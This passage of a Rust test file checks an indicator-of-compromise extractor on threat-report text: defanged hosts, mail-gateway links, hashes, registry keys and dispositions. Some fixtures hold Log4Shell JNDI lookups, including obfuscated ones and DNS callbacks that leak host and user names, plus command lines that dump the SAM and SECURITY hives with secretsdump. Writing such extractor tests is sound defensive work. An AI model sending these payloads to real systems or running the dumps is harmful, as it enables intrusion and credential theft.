//! Extraction: the precision traps every peer falls into, spans, defanged
//! flags, dispositions, streaming and the parallel path.

use kyoyu_indicators::{Disposition, Extractor, IndicatorKind, Match};

fn found(text: &str) -> Vec<(String, String)> {
    Extractor::new()
        .extract(text)
        .into_iter()
        .map(|m| (m.kind().id().to_owned(), m.value()))
        .collect()
}

fn kinds_values(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
}

/// Kind, value, raw text and defanged flag of every match in `text`.
fn found_raw(text: &str) -> Vec<(String, String, String, bool)> {
    Extractor::new()
        .extract(text)
        .into_iter()
        .map(|m| (m.kind().id().to_owned(), m.value(), m.raw(text).to_owned(), m.defanged))
        .collect()
}

/// Value and disposition of every match in `text`.
fn values_and_dispositions(text: &str) -> Vec<(String, Disposition)> {
    Extractor::new().extract(text).into_iter().map(|m| (m.value(), m.disposition)).collect()
}

fn owned(rows: &[(&str, Disposition)]) -> Vec<(String, Disposition)> {
    rows.iter().map(|(v, d)| ((*v).to_owned(), *d)).collect()
}

fn raw_matches(rows: &[(&str, &str, &str, bool)]) -> Vec<(String, String, String, bool)> {
    rows.iter()
        .map(|(k, v, r, d)| ((*k).to_owned(), (*v).to_owned(), (*r).to_owned(), *d))
        .collect()
}

#[test]
fn file_names_with_tld_extensions_are_not_domains() {
    let text =
        "The victim opened invoice.zip, which ran secretsdump.py and payload.sh from report.mov.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("file-name", "invoice.zip"),
            ("file-name", "secretsdump.py"),
            ("file-name", "payload.sh"),
            ("file-name", "report.mov"),
        ])
    );
    // Defanged, the same shape is a domain: the analyst marked it as one.
    assert_eq!(found("C2 at update-check[.]zip"), kinds_values(&[("domain", "update-check.zip")]));
}

#[test]
fn saved_registry_hives_are_file_names() {
    // `.save` and `.hiv` are top-level domains too; a hive saved for
    // secretsdump is a file.
    let text = "reg save HKLM\\SECURITY SECURITY.save /y\n\
                secretsdump.py -sam sam.save -system SYSTEM.hiv LOCAL";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("registry-key", "HKEY_LOCAL_MACHINE\\SECURITY"),
            ("file-name", "SECURITY.save"),
            ("file-name", "secretsdump.py"),
            ("file-name", "sam.save"),
            ("file-name", "SYSTEM.hiv"),
        ])
    );
    // A method called on a PowerShell variable is code.
    assert_eq!(found("$bitmap.Save(\"#{output_file}\")"), kinds_values(&[]));
}

#[test]
fn blind_round_seven_hosts_and_fields() {
    // An IPv6 peer after a Squid hierarchy code, a JNDI lookup over DNS,
    // and names under file-like top-level domains that a C2 cue marks.
    assert_eq!(
        found("TCP_MISS/200 HIER_DIRECT/2a01:4f8:c012:5a1b::1 text/html"),
        kinds_values(&[("ipv6", "2a01:4f8:c012:5a1b::1")])
    );
    assert_eq!(
        found("${jndi:dns://x9k2.dnslog-oob.online/r}"),
        kinds_values(&[("url", "dns://x9k2.dnslog-oob.online/r")])
    );
    assert_eq!(
        found("C2 at verify-collabland.app; C2: tacitcloudy.run; the victim ran payload.sh"),
        kinds_values(&[
            ("domain", "verify-collabland.app"),
            ("domain", "tacitcloudy.run"),
            ("file-name", "payload.sh"),
        ])
    );
    // A log schema's field paths are no hosts; real names under the same
    // first labels are.
    assert_eq!(
        found("where kibana.alert.rule.name and ssl.cert.subject.cn match; data.mail.yahoo.com"),
        kinds_values(&[("domain", "data.mail.yahoo.com")])
    );
    // A Discord invite is the inviter's, however well known Discord is.
    assert_eq!(
        values_and_dispositions("join https://discord.gg/collabverify"),
        owned(&[("https://discord.gg/collabverify", Disposition::Indicator)])
    );
}

#[test]
fn links_rewritten_by_mail_gateways_give_their_destination() {
    let text = "Safe Links: https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Finvoice-docs.evil-share.com%2Fview%3Fid%3D42&data=05%7C01&reserved=0\n\
        v2: https://urldefense.proofpoint.com/v2/url?u=https-3A__login.m1crosoft-2Dverify.com_auth_-3Fr-3D1&d=DwMFaQ&e=\n\
        v3: https://urldefense.com/v3/__https://dl.payload-host.net/a/b.zip__;!!ABCdef!xyz123$\n\
        hidden: https://urldefense.com/v3/__https://dl.payload-host.net/a*b.zip__;Lw!!ABC$\n";
    let found = Extractor::new().extract(text);
    let rows: Vec<(String, bool)> = found.iter().map(|m| (m.value(), m.defanged)).collect();
    assert_eq!(
        rows,
        [
            ("https://invoice-docs.evil-share.com/view?id=42".to_owned(), true),
            ("https://login.m1crosoft-verify.com/auth/?r=1".to_owned(), true),
            ("https://dl.payload-host.net/a/b.zip".to_owned(), true),
            // A character hidden as `*` cannot be read back: the link as
            // written.
            ("https://urldefense.com/v3/__https://dl.payload-host.net/a*b.zip".to_owned(), false),
        ]
    );
    // The span covers the whole rewritten link.
    assert!(found[0].raw(text).starts_with("https://eur01.safelinks"));
    assert!(found[0].raw(text).ends_with("reserved=0"));
}

#[test]
fn a_named_digest_and_a_host_cut_by_a_line_wrap_are_whole() {
    let text = "The dropper (SHA-256 53fa205a6c07f452850ad360c450bbf6\n\
                56634549d0beb6b3b50aa85799873295) came from https://docs.paperlantern-cloud.\n\
                com/view/quote_2025.hta by mshta.\n";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("sha256", "53fa205a6c07f452850ad360c450bbf656634549d0beb6b3b50aa85799873295"),
            ("url", "https://docs.paperlantern-cloud.com/view/quote_2025.hta"),
        ])
    );
    // Without the algorithm's name, or when the first run is whole, two
    // runs on two lines are two digests; a sentence after a link's dot is
    // no path.
    let list = "53fa205a6c07f452850ad360c450bbf6\n56634549d0beb6b3b50aa85799873295\n\
                MD5: 0cc175b9c0f1b6a831c399e269772661\n92eb5ffee6ae2fec3ad71c777531578f\n\
                See https://example.com.\nNow we look at it.";
    assert_eq!(
        found(list),
        kinds_values(&[
            ("md5", "53fa205a6c07f452850ad360c450bbf6"),
            ("md5", "56634549d0beb6b3b50aa85799873295"),
            ("md5", "0cc175b9c0f1b6a831c399e269772661"),
            ("md5", "92eb5ffee6ae2fec3ad71c777531578f"),
            ("url", "https://example.com/"),
        ])
    );
}

#[test]
fn a_host_written_without_a_scheme_before_a_path_is_found() {
    // IoC lists often give C2 endpoints as `host/path`, with no scheme.
    let text = "C&C URLs:\nsync-relay[.]club/api/v2/gate.php\n45.137.22[.]80/upd/win.bin\n\
                cdn.tile-render.xyz/assets/\nThe loader is built from src/main.rs and \
                x64/loader.dll; detected as Win64/BadIIS.S.";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("domain", "sync-relay.club", "sync-relay[.]club", true),
            ("ipv4", "45.137.22.80", "45.137.22[.]80", true),
            ("domain", "cdn.tile-render.xyz", "cdn.tile-render.xyz", false),
        ])
    );
}

#[test]
fn a_full_width_hyphen_stays_inside_a_full_width_name() {
    // Japanese text typed with the IME on writes the whole name in
    // full-width forms, hyphen included.
    assert_eq!(
        found("ドメイン名：ａｂｃ－ｃｏｒｐ．ｃｏｍ（偽サイト）"),
        kinds_values(&[("domain", "abc-corp.com")])
    );
}

#[test]
fn a_sample_named_by_its_digest_yields_the_digest() {
    let text = "Uploaded as 600be5ab7f0513833336bec705ca9bcfd1150a2931e61a4752b8de4c0af7b03a.php \
                next to dropper.exe and 1234567890abcdef1234567890abcdef.bin; build-20240101.zip.";
    let matches = Extractor::new().extract(text);
    let got: Vec<_> =
        matches.iter().map(|m| (m.kind().id().to_owned(), m.value(), m.raw(text))).collect();
    let digest = "600be5ab7f0513833336bec705ca9bcfd1150a2931e61a4752b8de4c0af7b03a";
    let md5 = "1234567890abcdef1234567890abcdef";
    assert_eq!(
        got,
        [
            ("sha256".to_owned(), digest.to_owned(), digest),
            ("file-name".to_owned(), "dropper.exe".to_owned(), "dropper.exe"),
            ("md5".to_owned(), md5.to_owned(), md5),
            ("file-name".to_owned(), "build-20240101.zip".to_owned(), "build-20240101.zip"),
        ]
    );
}

#[test]
fn code_members_and_av_names_are_not_domains() {
    for text in [
        "It creates wscript.shell and calls System.Net.WebClient to fetch the stage.",
        "The page reads location.search and document.cookie before redirecting.",
        "Detected as W64/BURNTCIGAR.CA!tr and Trojan.Win32.Agent.xyz by two engines.",
        "HEUR:Backdoor.MSIL.Crysan.gen and Win32/Agent.ABC were seen.",
        "It calls os.path.join(base, name).",
        "The unit sets WantedBy=multi-user.target and After=network.target.",
    ] {
        let got: Vec<_> = found(text).into_iter().filter(|(k, _)| k == "domain").collect();
        assert!(got.is_empty(), "{text}: {got:?}");
    }
}

/// Vendor documentation's fictitious companies are documentation, and a
/// certificate subject's field name is not part of the mailbox after it.
#[test]
fn documentation_names_and_certificate_subjects() {
    let text = "Grant jonh@contoso.com access to sts.contoso.com. \
                Subject: C=11, ST=11, CN=11/emailAddress=11@qq.com";
    let got: Vec<_> = Extractor::new()
        .extract(text)
        .into_iter()
        .map(|m| (m.kind().id().to_owned(), m.value(), m.disposition))
        .collect();
    assert_eq!(
        got,
        [
            ("email".to_owned(), "jonh@contoso.com".to_owned(), Disposition::Documentation),
            ("domain".to_owned(), "sts.contoso.com".to_owned(), Disposition::Documentation),
            ("email".to_owned(), "11@qq.com".to_owned(), Disposition::Indicator),
        ]
    );
}

/// A path may hold spaces, but the next absolute path is a path of its own.
#[test]
fn windows_paths_with_spaces_end_at_the_next_path() {
    let text = r"copy C:\Windows\System32\utilman.exe C:\Windows\Temp\u.exe from C:\Program Files (x86)\Tool\t.exe";
    let got: Vec<_> =
        found(text).into_iter().filter(|(k, _)| k == "file-path").map(|(_, v)| v).collect();
    assert_eq!(
        got,
        [
            r"C:\Windows\System32\utilman.exe",
            r"C:\Windows\Temp\u.exe",
            r"C:\Program Files (x86)\Tool\t.exe"
        ]
    );
}

/// A registry key ends at the next key and at the quote that opened it.
#[test]
fn registry_keys_end_at_the_next_key_and_the_closing_quote() {
    let text = r"Set HKLM\SOFTWARE\Pol\LegalNoticeCaption and HKLM\SOFTWARE\Pol\LegalNoticeText, then (Get-ItemProperty 'HKLM:\SOFTWARE\App Paths\chrome.exe').'(Default)'";
    let got: Vec<_> =
        found(text).into_iter().filter(|(k, _)| k == "registry-key").map(|(_, v)| v).collect();
    assert_eq!(got.len(), 3, "{got:?}");
    assert!(got[0].ends_with(r"\LegalNoticeCaption"), "{got:?}");
    assert!(got[1].ends_with(r"\LegalNoticeText"), "{got:?}");
    assert!(got[2].ends_with(r"\App Paths\chrome.exe"), "{got:?}");
}

/// A fuzzer found a name cut after an unclosed `(` that held no dot.
#[test]
fn a_cut_name_without_an_extension_is_no_file_name() {
    for text in ["a.b(zip", "x.exe(dll done", "((.zip"] {
        let got: Vec<_> = found(text).into_iter().filter(|(k, _)| k == "file-name").collect();
        assert!(got.is_empty(), "{text}: {got:?}");
    }
}

/// Code around a file name is not part of it.
#[test]
fn file_names_start_after_code() {
    let text = "if(!(vssadmin.exe list shadows)) then stream.SaveToFile('ostapout.txt', 2) \
                and load wininet(x86).dll";
    let got: Vec<_> =
        found(text).into_iter().filter(|(k, _)| k == "file-name").map(|(_, v)| v).collect();
    assert_eq!(got, ["vssadmin.exe", "ostapout.txt", "wininet(x86).dll"]);
}

#[test]
fn versions_and_times_are_not_addresses() {
    for text in [
        "The actor installed Radmin 3.5.2.1 on the server.",
        "Upgrade to version 1.2.3.4 or later; v1.2.3.4 is affected.",
        "Logs at 12:30:45 and 09:15 show the logon.",
    ] {
        let got: Vec<_> = found(text).into_iter().filter(|(k, _)| k.starts_with("ipv")).collect();
        assert!(got.is_empty(), "{text}: {got:?}");
    }
    // With a network word before it, or defanged, a small address stays.
    assert_eq!(found("connects to 5.8.1.3 over TLS"), kinds_values(&[("ipv4", "5.8.1.3")]));
    assert_eq!(found("Radmin 3.5.2[.]1"), kinds_values(&[("ipv4", "3.5.2.1")]));
}

#[test]
fn hashes_need_whole_hex_words() {
    let sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    let text = format!("sha256:{sha256} and a longer hex run {sha256}ab and base64 QUJD{sha256}");
    assert_eq!(found(&text), kinds_values(&[("sha256", sha256)]));
    let md5 = "44d88612fea8a8f36de82e1278abb02f";
    assert_eq!(found(&format!("MD5 {}", md5.to_uppercase())), kinds_values(&[("md5", md5)]));
}

#[test]
fn urls_end_where_prose_does() {
    let text = "See (https://evil.example-cdn.net/a/b.php?id=1). Also [link](https://c2.badhost.ru/x), \
                and https://en.wikipedia.org/wiki/Foo_(bar).";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "https://evil.example-cdn.net/a/b.php?id=1"),
            ("url", "https://c2.badhost.ru/x"),
            ("url", "https://en.wikipedia.org/wiki/Foo_(bar)"),
        ])
    );
}

/// Link syntax around a URL is not part of it: a Markdown target ends at
/// the parenthesis that opened it (ATT&CK descriptions run straight into
/// `(Citation: …)` or a second link), and an AsciiDoc label starts at a
/// bare `[`. Defang markers and IPv6 hosts keep their brackets.
#[test]
fn urls_end_where_link_syntax_starts() {
    let text = "[WMI](https://attack.mitre.org/techniques/T1047).(Citation: X) and \
                [ipconfig](https://attack.mitre.org/software/S0100)/[ifconfig](https://attack.mitre.org/software/S0101) \
                via https://web-assets.example-cdn.net/papers/ebury.pdf[Ebury is alive] and \
                http://suricata-ids.org/[Suricata], while hxxp://evil-host[.]example[.]com/gate[.]php \
                and http://[2001:db8::7]:8080/x stay whole.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "https://attack.mitre.org/techniques/T1047"),
            ("url", "https://attack.mitre.org/software/S0100"),
            ("url", "https://attack.mitre.org/software/S0101"),
            ("url", "https://web-assets.example-cdn.net/papers/ebury.pdf"),
            ("url", "http://suricata-ids.org/"),
            ("url", "http://evil-host.example.com/gate.php"),
            ("url", "http://[2001:db8::7]:8080/x"),
        ])
    );
}
#[test]
fn long_cve_ids_are_whole() {
    assert_eq!(
        found("Exploits CVE-2024-1234567 and cve-2021-44228."),
        kinds_values(&[("cve", "CVE-2024-1234567"), ("cve", "CVE-2021-44228")])
    );
}

#[test]
fn defanged_forms_and_spans() {
    let text = "IoCs: hxxp://198.51.100[.]23:8080/load, evil[.]example[.]org, admin[@]phish-mail[.]com, \
                h**ps://login-portal(.)badcorp-sso(dot)com/";
    let ms = Extractor::new().extract(text);
    let raws: Vec<_> = ms.iter().map(|m| m.raw(text)).collect();
    assert_eq!(
        raws,
        [
            "hxxp://198.51.100[.]23:8080/load",
            "evil[.]example[.]org",
            "admin[@]phish-mail[.]com",
            "h**ps://login-portal(.)badcorp-sso(dot)com/"
        ]
    );
    assert!(ms.iter().all(|m| m.defanged));
    assert_eq!(ms[0].value(), "http://198.51.100.23:8080/load");
    assert_eq!(ms[2].value(), "admin@phish-mail.com");
    assert_eq!(ms[3].value(), "https://login-portal.badcorp-sso.com/");
}

#[test]
fn japanese_text() {
    let text = "C2サーバはupdate-check[.]example-jp[.]comで、通信先IPは203.0.113[.]9でした。\
                国際化ドメイン 例え。jp も確認。ファイル「請求書.zip」を開いた。";
    let got = found(text);
    assert!(got.contains(&("domain".into(), "update-check.example-jp.com".into())), "{got:?}");
    assert!(got.contains(&("ipv4".into(), "203.0.113.9".into())), "{got:?}");
    assert!(got.contains(&("domain".into(), "xn--r8jz45g.jp".into())), "{got:?}");
}

#[test]
fn paths_registry_and_ids() {
    let text = r#"Persistence: HKCU\Software\Microsoft\Windows\CurrentVersion\Run "Updater" pointing at C:\Program Files (x86)\Common Files\upd.exe and /etc/cron.d/sync; T1547.001 via AS64500 from 00:1A:2B:3C:4D:5E on 443/tcp."#;
    assert_eq!(
        found(text),
        kinds_values(&[
            ("registry-key", r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"),
            ("file-path", r"C:\Program Files (x86)\Common Files\upd.exe"),
            ("file-path", "/etc/cron.d/sync"),
            ("attack-technique", "T1547.001"),
            ("asn", "AS64500"),
            ("mac", "00:1a:2b:3c:4d:5e"),
            ("port-protocol", "443/tcp"),
        ])
    );
}

#[test]
fn dispositions() {
    let text = "Beacon to 45.77.215.53 and 10.20.30.40; see https://attack.mitre.org/techniques/T1071/ \
                and https://www.welivesecurity.com/2023/x/; docs use 192.0.2.1 and example.com; \
                the sample queried www.google.com; empty file d41d8cd98f00b204e9800998ecf8427e.";
    let got = values_and_dispositions(text);
    let want = [
        ("45.77.215.53", Disposition::Indicator),
        ("10.20.30.40", Disposition::Internal),
        ("https://attack.mitre.org/techniques/T1071/", Disposition::Reference),
        ("https://www.welivesecurity.com/2023/x/", Disposition::Reference),
        ("192.0.2.1", Disposition::Documentation),
        ("example.com", Disposition::Documentation),
        ("www.google.com", Disposition::Benign),
        ("d41d8cd98f00b204e9800998ecf8427e", Disposition::Benign),
    ];
    let want = owned(&want);
    assert_eq!(got, want);
}

#[test]
fn files_on_storage_services_are_the_publishers() {
    // A regional S3 endpoint or a CDN distribution serves whatever its
    // owner uploads: the URL is the attacker's though the domain is known.
    let text = "Payloads: https://enjoyds.s3.us-east-2.amazonaws.com/H97FJNGD86R.zip, \
                https://d1x9f0aa2kq.cloudfront.net/loader.bin; console at https://aws.amazon.com/s3/.";
    let got = values_and_dispositions(text);
    let want = [
        ("https://enjoyds.s3.us-east-2.amazonaws.com/H97FJNGD86R.zip", Disposition::Indicator),
        ("https://d1x9f0aa2kq.cloudfront.net/loader.bin", Disposition::Indicator),
        ("https://aws.amazon.com/s3/", Disposition::Benign),
    ];
    let want = owned(&want);
    assert_eq!(got, want);
}

#[test]
fn asciidoc_passthrough_marks_are_not_part_of_a_match() {
    // ESET's IoC lists write `` `++evil[.]example++` `` and `` `+evil[.]example+` ``.
    let text = "* `++xinxx.allsoulu[.]com++`\n* `++http://202.100.206[.]136:443++`\n\
                |`+66.29.141[.]245+` |`+www.lockbitblog[.]info+` |\n\
                - `++piwiks[.]com|91.219.236[.]38++`\n\
                * `++%APPDATA%\\msvdemo\\msbrowsmc.exe++`\n\
                Installed under C:\\Program Files\\Notepad++ by the user.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("domain", "xinxx.allsoulu.com"),
            ("url", "http://202.100.206.136:443/"),
            ("ipv4", "66.29.141.245"),
            ("domain", "www.lockbitblog.info"),
            ("domain", "piwiks.com"),
            ("ipv4", "91.219.236.38"),
            ("file-path", "%APPDATA%\\msvdemo\\msbrowsmc.exe"),
            ("file-path", "C:\\Program Files\\Notepad++"),
        ])
    );
}

#[test]
fn kind_filter_and_limit() {
    let text = "1.2.3.4 evil.example-cdn.net CVE-2020-0001 https://a.example-cdn.net/";
    let only = Extractor::builder().kinds(&[IndicatorKind::Cve]).build().extract(text);
    assert_eq!(only.len(), 1);
    assert_eq!(only[0].kind(), IndicatorKind::Cve);
    assert_eq!(Extractor::builder().max_matches(2).build().extract(text).len(), 2);
}

fn big_text() -> String {
    let para = "Line with hxxp://c2-{n}.example-cdn[.]net/gate and 203.0.113.{m} plus \
                9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 and prose words.\n";
    let mut s = String::new();
    let mut n = 0;
    while s.len() < 3 * (1 << 20) + 12345 {
        s.push_str(&para.replace("{n}", &n.to_string()).replace("{m}", &(n % 250).to_string()));
        s.push_str("日本語の説明文も入る。\n");
        n += 1;
    }
    s
}

#[test]
fn streaming_equals_whole_text() {
    let text = big_text();
    let whole = Extractor::new().extract(&text);
    let mut streamed: Vec<Match> = Vec::new();
    Extractor::new().extract_reader(text.as_bytes(), |m| streamed.push(m)).unwrap();
    assert_eq!(streamed.len(), whole.len());
    assert_eq!(streamed, whole);
    for m in &whole {
        assert!(m.start <= m.end && !m.raw(&text).is_empty());
    }
}

#[test]
fn parallel_equals_sequential() {
    let docs: Vec<String> = (0..40)
        .map(|i| format!("doc {i}: evil-{i}[.]example-cdn[.]net and 198.51.100.{i}"))
        .collect();
    let refs: Vec<&str> = docs.iter().map(String::as_str).collect();
    let ex = Extractor::new();
    let par = ex.extract_many(&refs);
    let seq: Vec<_> = refs.iter().map(|d| ex.extract(d)).collect();
    assert_eq!(par, seq);
}

#[test]
fn dispositions_from_the_warning_lists() {
    let text = "Queried 8.8.8.8 and 1.1.1.1, then evil-panel.duckdns.org, phish-kit.github.io, bit.ly and \
                reddit.com; payload from 45.77.215.53.";
    let got = values_and_dispositions(text);
    let want = [
        ("8.8.8.8", Disposition::Benign),
        ("1.1.1.1", Disposition::Benign),
        ("evil-panel.duckdns.org", Disposition::Indicator),
        ("phish-kit.github.io", Disposition::Indicator),
        ("bit.ly", Disposition::Benign),
        ("reddit.com", Disposition::Benign),
        ("45.77.215.53", Disposition::Indicator),
    ];
    let want = owned(&want);
    assert_eq!(got, want);
}

#[test]
fn crawlers_and_address_lookups_are_context_cdn_fronts_are_not() {
    // A web log and a stealer's analysis: Googlebot's address, range and
    // reverse name; the services malware asks for its own address (also
    // under a dynamic-DNS parent); the Cloudflare address a phishing site
    // answered from, which vendors list as its indicator.
    let text = "66.249.66.1 - - [03/Jun/2024:10:00:02 +0000] \"GET /robots.txt\" from \
                crawl-66-249-66-1.googlebot.com (range 66.249.66.0/24). The stealer asks \
                http://checkip.dyndns.org/ and https://api.ipify.org/?format=json, then posts to \
                https://grab.evil-panel.duckdns.org/gate.php; the kit answers from 104.21.48.119 \
                and 66.249.0.0/16.";
    let got = values_and_dispositions(text);
    let want = [
        ("66.249.66.1", Disposition::Benign),
        ("crawl-66-249-66-1.googlebot.com", Disposition::Benign),
        ("66.249.66.0/24", Disposition::Benign),
        ("http://checkip.dyndns.org/", Disposition::Benign),
        ("https://api.ipify.org/?format=json", Disposition::Benign),
        ("https://grab.evil-panel.duckdns.org/gate.php", Disposition::Indicator),
        ("104.21.48.119", Disposition::Indicator),
        ("66.249.0.0/16", Disposition::Indicator),
    ];
    let want = owned(&want);
    assert_eq!(got, want);
}

#[test]
fn a_japanese_full_stop_after_an_indicator_ends_the_sentence() {
    let text = "内部 10.20.4.17。次に evil-cdn.net。以上 例え。jp も。";
    let got: Vec<(String, &str)> =
        Extractor::new().extract(text).iter().map(|m| (m.value(), &text[m.start..m.end])).collect();
    assert_eq!(
        got,
        [
            ("10.20.4.17".to_owned(), "10.20.4.17"),
            ("evil-cdn.net".to_owned(), "evil-cdn.net"),
            ("xn--r8jz45g.jp".to_owned(), "例え。jp"),
        ]
    );
    // A Japanese sentence's full stop before an English sentence: no name
    // under the brand top-level domain `.microsoft`.
    assert!(
        Extractor::new().extract("歯科医院は対象外。Microsoft Office was not affected.").is_empty()
    );
}

#[test]
fn bracketed_url_separators_and_spaced_markers() {
    // `[://]` holds `://`: the bracketed form is the separator.
    assert_eq!(
        found("Phishing page: hxxps[://]secure-login[.]office-verify[.]com/owa/auth.php."),
        kinds_values(&[("url", "https://secure-login.office-verify.com/owa/auth.php")])
    );
    assert_eq!(found("hxxp[://]evil[.]com/"), kinds_values(&[("url", "http://evil.com/")]));
    // Spaced bracket dots join the words around them, with markers inside
    // the next word too; `{at}` is an at sign like `[at]`.
    assert_eq!(
        found("Beacon to cdn [.] update-check[.]net, mail ops{at}mail-relay[.]org."),
        kinds_values(&[("domain", "cdn.update-check.net"), ("email", "ops@mail-relay.org")])
    );
    // A word of prose, a spaced dot and one more word is a sentence about
    // defanging (`.like` and `.run` are top-level domains); a host after a
    // word of prose is still one.
    assert_eq!(
        found("please don't paste raw links, use [.] like this; then (.) run it. C2 evil [.] top"),
        kinds_values(&[("domain", "evil.top")])
    );
    // A country code or a long-standing top-level domain after the marker
    // makes even a short word a host (found by the defang property test).
    assert_eq!(
        found("C2: a [dot] com for C2, then it [.] ru, a [dot] 0-0 [dot] com, a [.] aaa [.] com"),
        kinds_values(&[
            ("domain", "a.com"),
            ("domain", "it.ru"),
            ("domain", "a.0-0.com"),
            ("domain", "a.aaa.com"),
        ])
    );
}

#[test]
fn characters_word_processors_and_pdfs_leave_in_text() {
    // A soft hyphen (U+00AD) is invisible; non-breaking hyphens (U+2011)
    // and the Unicode hyphen (U+2010) stand for `-`; a ligature folds.
    let text = "Domains micro\u{AD}soft-update[.]info and ofﬁce365-login[.]com; \
                exploited CVE\u{2011}2024\u{2011}3400 via upd\u{2010}check.net.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("domain", "microsoft-update.info"),
            ("domain", "office365-login.com"),
            ("cve", "CVE-2024-3400"),
            ("domain", "upd-check.net"),
        ])
    );
    let m = Extractor::new().extract(text);
    assert_eq!(m[0].raw(text), "micro\u{AD}soft-update[.]info");
    assert_eq!(m[2].raw(text), "CVE\u{2011}2024\u{2011}3400");
}

#[test]
fn both_ends_of_an_address_range_are_found() {
    let text = "Scanning from 45.142.212.10-45.142.212.20 and 91.215.85[.]3-91.215.85[.]9; \
                sweep 10.0.0.1-254; build 1.2.3.4-beta.";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("ipv4", "45.142.212.10", "45.142.212.10", false),
            ("ipv4", "45.142.212.20", "45.142.212.20", false),
            ("ipv4", "91.215.85.3", "91.215.85[.]3", true),
            ("ipv4", "91.215.85.9", "91.215.85[.]9", true),
            ("ipv4", "10.0.0.1", "10.0.0.1", false),
        ])
    );
}

#[test]
fn a_possessive_is_not_part_of_a_name() {
    assert_eq!(
        found(
            "The site evil-login.com's certificate and EVIL-CDN.NET'S records; 'a.bad-host.org's'."
        ),
        kinds_values(&[
            ("domain", "evil-login.com"),
            ("domain", "evil-cdn.net"),
            ("domain", "a.bad-host.org"),
        ])
    );
    // In a path, `'s` may be part of a folder's name.
    assert_eq!(found(r"C:\Users\Bob's"), kinds_values(&[("file-path", r"C:\Users\Bob's")]));
}

#[test]
fn a_lookup_brace_and_a_user_at_an_address() {
    // A Log4Shell lookup closes with a brace that is not the URL's.
    assert_eq!(
        found("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/dXBkYXRl}"),
        kinds_values(&[("url", "ldap://45.155.205.233:12344/Basic/Command/Base64/dXBkYXRl")])
    );
    // `user@address` (ssh, scp, stealer logs) names the address.
    let text = "ssh root@45.137.22.80 -p 2222; scp x admin@91.215.85[.]3:/tmp";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("ipv4", "45.137.22.80", "45.137.22.80", false),
            ("ipv4", "91.215.85.3", "91.215.85[.]3", true),
        ])
    );
}

#[test]
fn hosts_that_log4j_lookups_hide() {
    // Scanners hide `jndi:ldap` in more lookups, and send the victim's
    // host name as the first label of their callback domain: the host is
    // named without the lookups, and nothing is read inside one.
    let text = r#"167.99.164.201 - - "GET / HTTP/1.1" 404 "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://log4j-probe.kryptonscan.xyz/a}"
"${jndi:dns://${env:HOSTNAME}.c6qv3l2k8r0j5a4b1c2dgf.oast.fun}" "${jndi:${lower:r}mi://45.83.193.150:1099/o}"
"${jndi:ldap://evil.${env:USER}.example-probe.com/a}" costs $5://nothing"#;
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv4", "167.99.164.201"),
            ("domain", "log4j-probe.kryptonscan.xyz"),
            ("domain", "c6qv3l2k8r0j5a4b1c2dgf.oast.fun"),
            ("ipv4", "45.83.193.150"),
        ])
    );
}

#[test]
fn names_in_dns_wire_form_in_rules() {
    // A Suricata or Snort rule matches a query by its wire form: each
    // label after its length in hex. A length that does not fit its label,
    // one label, or no public suffix names nothing.
    let text = r#"alert udp $HOME_NET any -> any 53 (msg:"Lumma DNS"; content:"|01 00 00 01 00 00|"; content:"|0a|snarlfoxql|03|pro|00|"; nocase; sid:1;)
alert dns any any -> any any (dns.query; content:"|06|update|0b|cdn-metrics|03|net"; sid:2;)
content:"|09|Evil-Host|02|co|02|jp|00|"; content:"|03|abcd|03|com|00|"; content:"|05|files|00|"; content:"|04|kyou|03|zzz|00|""#;
    assert_eq!(
        found(text),
        kinds_values(&[
            ("domain", "snarlfoxql.pro"),
            ("domain", "update.cdn-metrics.net"),
            ("domain", "evil-host.co.jp"),
        ])
    );
}

#[test]
fn hosts_of_urls_with_other_schemes() {
    // A scheme outside `URL_SCHEMES` makes no URL, but its host is named.
    assert_eq!(
        found(
            "RDP to rdp://45.137.22.80, tunnel ssh://relay.evil-host.net:2222/x, vnc://91.215.85[.]3."
        ),
        kinds_values(&[
            ("ipv4", "45.137.22.80"),
            ("domain", "relay.evil-host.net"),
            ("ipv4", "91.215.85.3"),
        ])
    );
    assert!(
        found("res://ieframe.dll/acr_error.htm and content://com.android.providers").is_empty()
    );
}

#[test]
fn a_listener_with_its_protocol_glued_on_is_host_and_port() {
    // `netstat`-style and firewall notes write the protocol after the port.
    let text = "listener 185.220.101.46:8080/tcp, 185.220.101[.]47:53/UDP and evil.com:443/tcp.";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("host-port", "185.220.101.46:8080", "185.220.101.46:8080", false),
            ("host-port", "185.220.101.47:53", "185.220.101[.]47:53", true),
            ("host-port", "evil.com:443", "evil.com:443", false),
        ])
    );
}

#[test]
fn a_url_typed_in_full_width_forms_is_one_url() {
    // Japanese text typed with the input method on: `：／／` and `／` are
    // full-width too, and used to split the URL into a domain and a name.
    let text = "C2: ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ．ｎｅｔ／ｇａｔｅ．ｐｈｐ を確認。\
                通信先（ｈｘｘｐ：／／１８５．２２０．１０１．４６：８０８０／ａ）。C2／通信先 evil.com";
    let urls = [
        "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ．ｎｅｔ／ｇａｔｅ．ｐｈｐ",
        "ｈｘｘｐ：／／１８５．２２０．１０１．４６：８０８０／ａ",
    ];
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("url", "https://evil.example.net/gate.php", urls[0], false),
            ("url", "http://185.220.101.46:8080/a", urls[1], true),
            ("domain", "evil.com", "evil.com", false),
